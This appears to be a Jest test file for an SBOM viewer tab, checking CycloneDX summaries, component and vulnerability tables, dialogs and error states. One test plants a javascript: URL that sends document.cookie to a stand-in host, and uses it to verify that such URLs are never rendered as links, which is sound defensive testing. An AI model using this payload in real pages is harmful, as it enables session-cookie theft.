import { formatDateTime } from '@console/shared';
import type { SbomPayload } from '@console/shared';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import type MockAdapter from 'axios-mock-adapter';
import { currentLocation } from '@console/shared/src/testing/renderWithAuth';
import { mockHttp, renderRoute, REPORTS } from '../../testing/renderRoute';
import { report } from '../../testing/reports';
import { generatedSbom, loadSbom, SBOM_FILES, withFindings } from '../../testing/sbomFixtures';

// The real chart needs a browser layout engine; the test reads what the tab hands it and counts draws.
const mockChartDraws: string[] = [];
jest.mock('@console/shared', () => ({
  ...jest.requireActual('@console/shared'),
  preloadApexCharts: () => undefined,
  ApexChart: ({ label, series, options }: { label: string; series: number[]; options: { labels: string[] } }) => {
    mockChartDraws.push(label);
    return (
      <div
        data-testid="chart"
        aria-label={label}
        data-series={JSON.stringify(series)}
        data-labels={JSON.stringify(options.labels)}
      />
    );
  },
}));

const R1 = `${REPORTS}r-1/`;
const SBOM = `${R1}sbom`;
const FEED = `${R1}sbom/feed/`;
/** A feed status with nothing to add: every component checked, every ecosystem covered. */
const COVERED = {
  demo: false,
  checked: 13,
  unsupported: 0,
  no_purl: 0,
  coverage: [{ ecosystem: 'npm', packages: 13, advisories: 4200, demo_advisories: 0 }],
  vulnerabilities: {},
};

function chart(title: string) {
  const el = within(screen.getByRole('region', { name: title })).getByTestId('chart');
  const labels: string[] = JSON.parse(el.getAttribute('data-labels')!);
  const series: number[] = JSON.parse(el.getAttribute('data-series')!);
  return Object.fromEntries(labels.map((label, i) => [label, series[i]]));
}

const rowsOf = (name: string) => within(screen.getByRole('table', { name })).getAllByRole('row').slice(1);
const column = (name: string, index: number) => rowsOf(name).map((row) => within(row).getAllByRole('cell')[index]!.textContent);
const summary = (label: string) => {
  const card = screen.getByRole('region', { name: 'SBOM Summary' });
  return within(card).getByText(label).nextElementSibling?.textContent;
};

describe('SBOM tab', () => {
  let api: MockAdapter;
  beforeEach(() => {
    api = mockHttp();
    api.onGet(R1).reply(200, report());
    api.onGet(FEED).reply(200, COVERED);
    mockChartDraws.length = 0;
    jest.spyOn(console, 'error').mockImplementation(() => undefined);
  });
  afterEach(() => {
    api.restore();
    jest.restoreAllMocks();
  });

  async function open(sbom: SbomPayload | [number, unknown]) {
    const [status, body] = Array.isArray(sbom) ? sbom : [200, sbom];
    api.onGet(SBOM).reply(status, body);
    renderRoute('/insights/r-1?tab=sbom');
    if (!Array.isArray(sbom)) await screen.findByRole('region', { name: 'SBOM Summary' });
  }

  it('summarises a CycloneDX 1.7 file and charts its severities and component types', async () => {
    await open(loadSbom(SBOM_FILES.shop));
    expect(summary('Component')).toBe('example/shop');
    expect(summary('Generated')).toBe(formatDateTime('2026-03-02T10:20:30+00:00'));
    expect(summary('CycloneDX')).toBe('1.7');
    expect(screen.getByTestId('sbom-component-count')).toHaveTextContent('13');
    expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('1');
    expect(chart('Vulnerability Severity')).toEqual({ Medium: 1 });
    expect(chart('Component Types')).toEqual({ library: 12, application: 1 });
  });

  it.each([
    ['a 1.4 file: metadata.component, not the tools array', SBOM_FILES.portal, true, 'portal 7.12.0'],
    ['a 1.4 file without metadata.component: the first of tools[]', SBOM_FILES.portal, false, 'example-bom-library 3.2.1'],
    ['a 1.7 file: metadata.component, not tools.components', SBOM_FILES.shop, true, 'example/shop'],
    ['a 1.7 file without metadata.component: the first of tools.components', SBOM_FILES.shop, false, 'hand-written 1.0'],
    ['a VEX-only file without metadata', SBOM_FILES.vexOnly, true, 'N/A'],
  ])('names the root component of %s', async (_, file, keepRoot, expected) => {
    const sbom = loadSbom(file);
    await open(keepRoot ? sbom : { ...sbom, metadata: { ...sbom.metadata, component: null } });
    expect(summary('Component')).toBe(expected);
  });

  describe('Components table', () => {
    it('shows 10 rows by name, with N/A for a missing group or license, and pages 5/10/25', async () => {
      // 1,115 generated components pkg-0000 … pkg-1114; pkg-0000 is at 1.0.0 and MIT-licensed.
      const sbom = generatedSbom(1115);
      await open(sbom);
      const names = sbom.components.map((c) => c.name).sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
      expect(column('Components', 0)).toEqual(names.slice(0, 10));
      expect(names.slice(0, 2)).toEqual(['pkg-0000', 'pkg-0001']);
      expect(screen.getByText('1–10 of 1,115')).toBeInTheDocument();
      const first = rowsOf('Components')[0]!;
      expect(
        within(first)
          .getAllByRole('cell')
          .map((c) => c.textContent),
      ).toEqual(['pkg-0000', 'library', '1.0.0', 'N/A', 'MIT']);
      expect(
        within(rowsOf('Components')[1]!)
          .getAllByRole('cell')
          .map((c) => c.textContent),
      ).toEqual(['pkg-0001', 'library', '2.1.0', 'N/A', 'N/A']);

      await userEvent.click(screen.getByRole('combobox', { name: /Rows per page/ }));
      expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual(['5', '10', '25']);
      await userEvent.click(screen.getByRole('option', { name: '25' }));
      expect(rowsOf('Components')).toHaveLength(25);
      await userEvent.click(screen.getByRole('button', { name: 'Go to next page' }));
      expect(screen.getByText('26–50 of 1,115')).toBeInTheDocument();
      expect(column('Components', 0)).toEqual(names.slice(25, 50));
    });

    it('sorts by Name, Type and Version, each click flipping the direction', async () => {
      // The shop's 13 components, by hand: cookies (the @example scope is its group), jquery, js-tokens,
      // lodash ×2, loose-envify, minimist ×2, package-lock.json, react, semver ×3.
      const sbom = loadSbom(SBOM_FILES.shop);
      await open(sbom);
      expect(column('Components', 0)).toEqual([
        'cookies',
        'jquery',
        'js-tokens',
        'lodash',
        'lodash',
        'loose-envify',
        'minimist',
        'minimist',
        'package-lock.json',
        'react',
      ]);
      await userEvent.click(screen.getByRole('button', { name: 'Name' }));
      expect(column('Components', 0)!.slice(0, 4)).toEqual(['semver', 'semver', 'semver', 'react']);
      await userEvent.click(screen.getByRole('button', { name: 'Type' }));
      expect(column('Components', 1)![0]).toBe('application');
      await userEvent.click(screen.getByRole('button', { name: 'Version' }));
      // Numbers compare by value (4.0.0 before 4.17.20, 7.3.8 before 18.2.0).
      expect(column('Components', 2)).toEqual([
        '0.2.3',
        '1.0.0',
        '1.2.8',
        '1.4.0',
        '3.4.1',
        '4.0.0',
        '4.17.20',
        '4.17.21',
        '5.7.1',
        '6.3.0',
      ]);
      const components = screen.getByRole('region', { name: 'Components' });
      await userEvent.click(within(components).getByRole('button', { name: 'Go to next page' }));
      expect(column('Components', 2)).toEqual(['7.3.8', '18.2.0', 'N/A']);
      await userEvent.click(screen.getByRole('button', { name: 'Version' }));
      expect(column('Components', 2)!.slice(0, 3)).toEqual(['18.2.0', '7.3.8', '6.3.0']);
      // A missing version stays last in both directions.
      await userEvent.click(within(components).getByRole('button', { name: 'Go to next page' }));
      expect(column('Components', 2)!.at(-1)).toBe('N/A');
    });

    it('opens the component dialog on a row', async () => {
      await open(loadSbom(SBOM_FILES.shop));
      await userEvent.click(screen.getByText('jquery'));
      const dialog = await screen.findByRole('dialog', { name: 'jquery 3.4.1' });
      expect(within(dialog).getByText('library')).toBeInTheDocument();
      expect(within(dialog).getByText('pkg:npm/jquery@3.4.1')).toBeInTheDocument();
      expect(within(dialog).getByText('MIT')).toBeInTheDocument();
      const properties = within(dialog).getByRole('table', { name: 'Properties' });
      expect(within(properties).getByText('example:PkgID')).toBeInTheDocument();
      expect(within(properties).getByText('jquery@3.4.1')).toBeInTheDocument();
      await userEvent.click(within(dialog).getByRole('button', { name: 'Close' }));
      await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    });
  });

  describe('Vulnerabilities table', () => {
    it('is not shown without vulnerabilities, and the pie says so', async () => {
      await open(loadSbom(SBOM_FILES.portal));
      expect(screen.queryByRole('table', { name: 'Vulnerabilities' })).not.toBeInTheDocument();
      expect(
        within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found'),
      ).toBeInTheDocument();
    });

    it('lists the highest severity first by default, 10 a page, sortable by ID and Severity', async () => {
      await open(withFindings());
      expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('85');
      expect(chart('Vulnerability Severity')).toEqual({ Critical: 7, High: 40, Medium: 23, Low: 6, Unknown: 9 });
      const table = screen.getByRole('table', { name: 'Vulnerabilities' });
      expect(
        within(table)
          .getAllByRole('columnheader')
          .map((c) => c.textContent),
      ).toEqual(['Vulnerability ID', 'Severity', 'Source', 'Affected Components', 'KEV', 'EPSS']);
      expect(rowsOf('Vulnerabilities')).toHaveLength(10);
      expect(screen.getByText('1–10 of 85')).toBeInTheDocument();
      expect(column('Vulnerabilities', 1)).toEqual([...Array(7).fill('Critical'), 'High', 'High', 'High']);
      // Ties within a severity go by id, numbers by value: CVE-2999-1 heads the critical ones.
      expect(column('Vulnerabilities', 0)![0]).toBe('CVE-2999-1');
      expect(column('Vulnerabilities', 2)![0]).toBe('OSV');

      await userEvent.click(within(table).getByRole('button', { name: 'Severity' }));
      expect(column('Vulnerabilities', 1)).toEqual(Array(9).fill('Unknown').concat('Low'));
      expect(column('Vulnerabilities', 0)![0]).toBe('MAL-2999-1');

      await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
      expect(column('Vulnerabilities', 0)).toEqual([
        'CVE-2999-1',
        'CVE-2999-9',
        'CVE-2999-10',
        'CVE-2999-11',
        'CVE-2999-99',
        'CVE-2999-100',
        'CVE-2999-1000',
        'GHSA-test-high-1',
        'GHSA-test-high-2',
        'GHSA-test-high-3',
      ]);
      await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
      expect(column('Vulnerabilities', 0)![0]).toBe('MAL-2999-9');
    });

    it('names affected components, "+N more" past three', async () => {
      // Sorted by id the page holds CVE-2999-1000 and CVE-2999-9, which affect four components each.
      await open(withFindings());
      await userEvent.click(
        within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }),
      );
      const cells = column('Vulnerabilities', 3);
      expect(cells.some((text) => /^[^,]+@[\d.]+$/.test(text!))).toBe(true);
      expect(cells.some((text) => /\+\d+ more$/.test(text!))).toBe(true);
    });

    it('opens the vulnerability dialog with ratings, advisories (safe links) and dates', async () => {
      const sbom = loadSbom(SBOM_FILES.shop);
      await open(sbom);
      await userEvent.click(screen.getByText('CVE-2999-1005'));
      const dialog = await screen.findByRole('dialog', { name: 'CVE-2999-1005' });
      expect(within(dialog).getAllByText('Medium').length).toBeGreaterThan(0);
      const source = within(dialog).getByRole('link', { name: 'ghsa' });
      expect(source).toHaveAttribute('href', 'https://example.com/advisories?ecosystem=npm');
      expect(within(dialog).getByText(/jquery from 1.2.0 before 3.5.0/)).toBeInTheDocument();
      expect(within(dialog).getByText('Upgrade jquery to version 3.5.0')).toBeInTheDocument();
      expect(within(dialog).getByText('jquery@3.4.1')).toBeInTheDocument();
      expect(within(dialog).getByText(formatDateTime('2026-02-01T00:29:00+00:00'))).toBeInTheDocument();
      expect(within(dialog).getByText(formatDateTime('2026-02-15T11:15:00+00:00'))).toBeInTheDocument();

      const ratings = within(dialog).getByRole('table', { name: 'Ratings' });
      expect(within(ratings).getAllByRole('row')).toHaveLength(1 + sbom.vulnerabilities[0]!.ratings.length);
      const nvd31 = within(ratings).getByText('CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N').closest('tr')!;
      expect(
        within(nvd31)
          .getAllByRole('cell')
          .map((c) => c.textContent),
      ).toEqual(['nvd', 'Medium', 'CVSSv31', '6.1', 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N']);

      const advisory = within(dialog).getByRole('link', { name: 'https://example.com/advisories/CVE-2999-1005' });
      expect(advisory).toHaveAttribute('target', '_blank');
      expect(advisory).toHaveAttribute('rel', 'noopener noreferrer');
      expect(within(dialog).getAllByRole('link')).toHaveLength(1 + sbom.vulnerabilities[0]!.advisories.length);
    });

    it('never turns a javascript: URL from the SBOM into a link', async () => {
      const sbom = loadSbom(SBOM_FILES.shop);
      const evil = 'javascript:fetch("https://evil.example/?c="+document.cookie)';
      const vulnerability = {
        ...sbom.vulnerabilities[0]!,
        source: { name: 'ghsa', url: evil },
        advisories: [{ title: 'Read me', url: evil }],
      };
      const jquery = sbom.components.find((c) => c.name === 'jquery')!;
      const components = sbom.components.map((c) =>
        c === jquery ? { ...c, licenses: [{ license: { id: 'MIT', name: null, url: evil } }] } : c,
      );
      await open({ ...sbom, components, vulnerabilities: [vulnerability] });

      await userEvent.click(screen.getByText('CVE-2999-1005'));
      const dialog = await screen.findByRole('dialog', { name: 'CVE-2999-1005' });
      expect(within(dialog).getByText('Read me').closest('a')).toBeNull();
      const source = within(dialog)
        .getAllByText('Source')
        .find((el) => el.tagName === 'DT')!;
      expect(source.nextElementSibling).toHaveTextContent('ghsa');
      expect(source.nextElementSibling!.querySelector('a')).toBeNull();
      expect(within(dialog).queryAllByRole('link')).toHaveLength(0);
      expect(document.querySelector('a[href^="javascript"]')).toBeNull();
      await userEvent.click(within(dialog).getByRole('button', { name: 'Close' }));
      await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());

      await userEvent.click(screen.getByText('jquery'));
      const component = await screen.findByRole('dialog', { name: 'jquery 3.4.1' });
      expect(within(component).getByText('MIT').closest('a')).toBeNull();
      expect(document.querySelector('a[href^="javascript"]')).toBeNull();
    });

    it('shows affected components of a VEX-only BOM by their ref', async () => {
      await open(loadSbom(SBOM_FILES.vexOnly));
      const ref = 'urn:cdx:5b0c1f0e-2b7a-4c55-8d4e-0000000000aa/1#pkg:maven/com.example/xml-binding@2.10.0?type=jar';
      expect(column('Vulnerabilities', 3)).toEqual([ref]);
      expect(column('Vulnerabilities', 1)).toEqual(['High']);
      await userEvent.click(screen.getByText('CVE-2999-2001'));
      const dialog = await screen.findByRole('dialog', { name: 'CVE-2999-2001' });
      expect(within(dialog).getByText(ref)).toBeInTheDocument();
      expect(within(dialog).getByText('(not listed in this SBOM)')).toBeInTheDocument();
      expect(within(dialog).getByText(/XXE Injection is a type of attack/)).toBeInTheDocument();
    });
  });

  it('says "No components found" for a file without components', async () => {
    await open(loadSbom(SBOM_FILES.vexOnly));
    expect(within(screen.getByRole('region', { name: 'Component Types' })).getByText('No components found')).toBeInTheDocument();
    expect(rowsOf('Components')[0]).toHaveTextContent('No components found');
    expect(chart('Vulnerability Severity')).toEqual({ High: 1 });
  });

  it('narrows the tables and the severity pie to the chosen component type', async () => {
    await open(loadSbom(SBOM_FILES.shop));
    expect(screen.getByRole('combobox', { name: 'Filter by Component Type' })).toHaveTextContent('All Types');
    await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
    expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual([
      'All Types',
      'library (12)',
      'application (1)',
    ]);
    await userEvent.click(screen.getByRole('option', { name: 'application (1)' }));
    expect(column('Components', 0)).toEqual(['package-lock.json']);
    expect(rowsOf('Vulnerabilities')[0]).toHaveTextContent('No vulnerabilities affect components of this type.');
    expect(
      within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found'),
    ).toBeInTheDocument();
    expect(chart('Component Types')).toEqual({ library: 12, application: 1 });
    await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
    await userEvent.click(await screen.findByRole('option', { name: 'library (12)' }));
    expect(rowsOf('Components')).toHaveLength(10);
    expect(column('Vulnerabilities', 0)).toEqual(['CVE-2999-1005']);
  });

  it('keeps the component type, and each table’s sort and page, in the URL', async () => {
    api.onGet(SBOM).reply(200, generatedSbom(25));
    renderRoute('/insights/r-1?tab=sbom&sbom_type=library&components_sort=-name&components_page=2&components_size=5');
    await screen.findByRole('region', { name: 'SBOM Summary' });
    expect(screen.getByRole('combobox', { name: 'Filter by Component Type' })).toHaveTextContent('library');
    const components = screen.getByRole('region', { name: 'Components' });
    expect(within(components).getByText('6–10 of 25')).toBeInTheDocument();
    expect(column('Components', 0)[0]).toBe('pkg-0019');

    // Another type: both tables start again at their first page; the sort stays.
    await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
    await userEvent.click(await screen.findByRole('option', { name: /^All Types/ }));
    expect(currentLocation().search).toBe('?tab=sbom&components_sort=-name&components_size=5');
    expect(within(components).getByText('1–5 of 25')).toBeInTheDocument();
  });

  it('shows the first page, sorted by default, for values it does not offer', async () => {
    api.onGet(SBOM).reply(200, generatedSbom(25));
    renderRoute('/insights/r-1?tab=sbom&sbom_type=nope&components_sort=licenses&components_page=99&components_size=7');
    await screen.findByRole('region', { name: 'SBOM Summary' });
    expect(screen.getByRole('combobox', { name: 'Filter by Component Type' })).toHaveTextContent('All Types');
    // Page 99 of 25 rows shows the last page.
    expect(within(screen.getByRole('region', { name: 'Components' })).getByText('21–25 of 25')).toBeInTheDocument();
    expect(column('Components', 0)[0]).toBe('pkg-0020');
  });

  it('says "No SBOM data available." when none was uploaded (404)', async () => {
    await open([404, { detail: 'No SBOM data available.' }]);
    expect(await screen.findByText('No SBOM data available.')).toBeInTheDocument();
    expect(screen.queryByText('Failed to load SBOM data')).not.toBeInTheDocument();
  });

  it('says "Failed to load SBOM data" on any other failure, with a Retry that loads it', async () => {
    await open([403, { detail: 'CSRF token missing or incorrect.' }]);
    expect(await screen.findByText('Failed to load SBOM data')).toBeInTheDocument();
    expect(screen.queryByText('No SBOM data available.')).not.toBeInTheDocument();
    expect(screen.queryByText('No vulnerabilities found')).not.toBeInTheDocument();
    api.onGet(SBOM).reply(200, loadSbom(SBOM_FILES.portal));
    await userEvent.click(screen.getByRole('button', { name: 'Retry' }));
    expect(await screen.findByRole('region', { name: 'SBOM Summary' })).toBeInTheDocument();
  });

  describe('an SBOM without vulnerabilities', () => {
    const severityPie = () => within(screen.getByRole('region', { name: 'Vulnerability Severity' }));

    it('never reads "No vulnerabilities found" when an ecosystem had no advisories to check against', async () => {
      api.onGet(FEED).reply(200, {
        ...COVERED,
        unsupported: 2,
        coverage: [
          { ecosystem: 'npm', packages: 10, advisories: 0, demo_advisories: 0 },
          { ecosystem: 'PyPI', packages: 1, advisories: 0, demo_advisories: 0 },
          { ecosystem: 'Maven', packages: 2, advisories: 900, demo_advisories: 0 },
        ],
      });
      await open(loadSbom(SBOM_FILES.portal));
      expect(
        await severityPie().findByText(
          'No vulnerabilities found in the covered ecosystems — not checked: npm, PyPI; 2 components not checked',
        ),
      ).toBeInTheDocument();
      expect(screen.queryByText('No vulnerabilities found')).not.toBeInTheDocument();
    });

    it('does not claim a clean result when the coverage could not be loaded', async () => {
      api.onGet(FEED).reply(404, { detail: 'Not found.' });
      await open(loadSbom(SBOM_FILES.portal));
      expect(await severityPie().findByText(/coverage|what was checked is unknown/)).toBeInTheDocument();
      expect(screen.queryByText('No vulnerabilities found')).not.toBeInTheDocument();
    });
  });

  it('renders one page of a 10,000-component, 3,000-vulnerability SBOM and never redraws the charts for the tables', async () => {
    const base = withFindings();
    const components = Array.from({ length: 10_000 }, (_, i) => {
      const c = base.components[i % base.components.length]!;
      return { ...c, 'bom-ref': `${c['bom-ref']}#${i}`, version: `${c.version}-${Math.floor(i / base.components.length)}` };
    });
    const vulnerabilities = Array.from({ length: 3_000 }, (_, i) => {
      const v = base.vulnerabilities[i % base.vulnerabilities.length]!;
      return { ...v, id: `${v.id}-${i}`, affects: [{ ref: components[i]!['bom-ref']! }] };
    });
    await open({ ...base, components, vulnerabilities });
    expect(screen.getByTestId('sbom-component-count')).toHaveTextContent('10,000');
    expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('3,000');
    expect(rowsOf('Components')).toHaveLength(10);
    expect(rowsOf('Vulnerabilities')).toHaveLength(10);

    const draws = mockChartDraws.length;
    await userEvent.click(within(screen.getByRole('table', { name: 'Components' })).getByRole('button', { name: 'Version' }));
    await userEvent.click(
      within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }),
    );
    await userEvent.click(screen.getAllByRole('button', { name: 'Go to next page' })[0]!);
    await userEvent.click(rowsOf('Components')[0]!);
    expect(await screen.findByRole('dialog')).toBeInTheDocument();
    expect(mockChartDraws.length).toBe(draws);
  });
});
